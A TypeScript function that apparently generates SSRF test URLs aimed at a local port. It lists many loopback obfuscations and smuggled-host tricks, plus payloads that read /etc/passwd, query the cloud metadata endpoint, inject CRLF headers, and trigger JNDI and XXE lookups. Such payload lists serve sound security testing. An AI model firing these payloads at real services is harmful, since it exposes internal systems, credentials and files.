/** Over a hundred URLs that make a careless service contact another host. All lead to `port` on this machine. */
export function listSsrfUrls(port: number): readonly string[] {
  const hosts = [
    `127.0.0.1:${port}`,
    `localhost:${port}`,
    `127.1:${port}`,
    `0:${port}`,
    `0.0.0.0:${port}`,
    `2130706433:${port}`,
    `0x7f000001:${port}`,
    `0x7f.1:${port}`,
    `0177.0.0.1:${port}`,
    `017700000001:${port}`,
    `[::1]:${port}`,
    `[::]:${port}`,
    `[::ffff:127.0.0.1]:${port}`,
    `[0:0:0:0:0:ffff:7f00:1]:${port}`,
    `127。0。0。1:${port}`,
    `①②⑦.⓪.⓪.①:${port}`,
    `ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:${port}`,
    `localhost.:${port}`,
    `rpc.example@127.0.0.1:${port}`,
    `127.0.0.1:${port}#@rpc.example`,
    `127.0.0.1:${port}\\@rpc.example`,
    `127.0.0.1%00.rpc.example:${port}`,
    `127.0.0.1:${port}%2f@rpc.example`,
    `user:pass@127.0.0.1:${port}`,
  ]
  const schemes = ['http://', 'https://', '//', 'ftp://']
  const [host] = hosts
  return [
    ...schemes.flatMap((scheme) => hosts.map((each) => `${scheme}${each}/`)),
    ...['gopher', 'dict', 'ldap', 'postgres', 'redis', 'ws', 'wss', 'ipfs', 'tftp', 'sftp'].map(
      (s) => `${s}://${host}/x`,
    ),
    `http:${host}`,
    `http:/${host}`,
    `http:\\\\${host}`,
    `\\\\${host}\\share`,
    `http://${host}/\r\nHost: ${host}`,
    `url:http://${host}`,
    `jar:http://${host}!/x`,
    'file:///etc/passwd',
    'file://localhost/etc/passwd',
    'http://169.254.169.254/latest/meta-data/',
    `data:text/plain;base64,aHR0cDovLzEyNy4wLjAuMQ==`,
    `javascript:fetch('http://${host}')`,
    `\${jndi:ldap://${host}/x}`,
    `{{http://${host}}}`,
    `<!ENTITY x SYSTEM "http://${host}/">`,
    `v2:http://${host}:1`,
  ]
}
